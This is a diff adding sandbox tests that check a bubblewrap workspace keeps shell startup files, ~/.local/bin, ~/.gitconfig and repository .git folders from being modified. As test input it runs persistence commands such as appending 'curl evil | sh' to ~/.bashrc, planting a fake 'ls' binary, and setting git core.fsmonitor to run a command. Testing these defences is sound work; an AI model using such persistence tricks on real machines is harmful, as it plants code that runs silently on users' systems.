@@ -328,3 +328,35 @@ class TestEnvironment:
             assert f"{name}=" not in out.text
         for name, value in kept.items():
             assert f"{name}={value}" in out.text
+
+
+class TestPersistence:
+    async def test_a_workspace_that_is_the_home_folder_keeps_startup_files(
+        self, bwrap, tmp_path, monkeypatch
+    ):
+        """wall: sandbox — with the home folder as workspace, shell startup files and ~/.local/bin
+        stay read-only, one created is removed, and ~/.gitconfig cannot gain a core.fsmonitor."""
+        home = (tmp_path / "home").resolve()
+        (home / ".local" / "bin").mkdir(parents=True)
+        (home / ".bashrc").write_text("# mine\n")
+        (home / ".gitconfig").write_text("[user]\n\tname = t\n")
+        monkeypatch.setenv("HOME", str(home))
+        out = await bash(
+            make_sandbox(home, bwrap),
+            "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.zshrc; echo evil > ~/.local/bin/ls; "
+            "git config --global core.fsmonitor 'touch PWNED'; echo notes > notes.txt",
+        )
+        assert (home / ".bashrc").read_text() == "# mine\n"
+        assert not (home / ".zshrc").exists() and not (home / ".local/bin/ls").exists()
+        assert "fsmonitor" not in (home / ".gitconfig").read_text()
+        assert (home / "notes.txt").read_text() == "notes\n"  # the rest of the workspace is writable
+        assert "removed .zshrc" in out.meta["status_line"]
+
+    async def test_repositories_one_level_down_in_a_plain_folder(self, bwrap, tmp_path):
+        """wall: sandbox — a workspace holding several repositories keeps each one's `.git`
+        read-only."""
+        ws = (tmp_path / "projects").resolve()
+        repo = make_repo(ws / "app")
+        before = snapshot(repo / ".git")
+        await bash(make_sandbox(ws, bwrap), "echo '[core] fsmonitor = touch PWNED' >> app/.git/config")
+        assert snapshot(repo / ".git") == before
